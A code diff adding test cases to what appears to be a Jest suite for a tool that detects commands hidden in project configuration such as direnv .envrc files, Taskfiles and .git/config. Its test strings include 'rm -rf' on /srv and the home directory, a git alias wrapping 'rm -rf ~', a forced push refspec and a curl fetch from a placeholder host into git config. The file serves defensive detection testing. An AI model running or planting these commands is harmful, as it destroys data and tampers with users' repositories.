@@ -36,6 +36,12 @@ describe('code installed for a project tool', () => {
     ["echo 'rm -rf /srv' > .envrc && direnv allow .", 'rm -rf /srv'],
     ["echo 'rm -rf /srv' > .envrc; direnv exec . npm test", 'rm -rf /srv'],
     ['direnv exec . rm -rf /srv', 'rm -rf /srv'],
+    // text written into .git/config: the settings it sets
+    [
+      'printf \'[remote "origin"]\\n\\tpush = +refs/heads/*:refs/heads/*\\n\' >> .git/config',
+      'git config remote.origin.push +refs/heads/*:refs/heads/*',
+    ],
+    ["printf '[alias]\\n  nuke = !rm -rf ~\\n' >> /w/.git/config", 'git config alias.nuke !rm -rf ~'],
   ])('%s runs %s', (script, inner) => expect(commands(script)).toContain(inner));
 
   it.each<[string, string]>([
@@ -48,6 +54,7 @@ describe('code installed for a project tool', () => {
       'dynamic:task {{…}}',
     ],
     ["printf 'tasks: [' > Taskfile.yml; task x", 'dynamic:'],
+    ['curl -s https://x.example/c >> .git/config', 'dynamic:git config'],
   ])('%s is unknown code', (script, want) =>
     expect(commands(script).some((c) => c.startsWith(want))).toBe(true),
   );
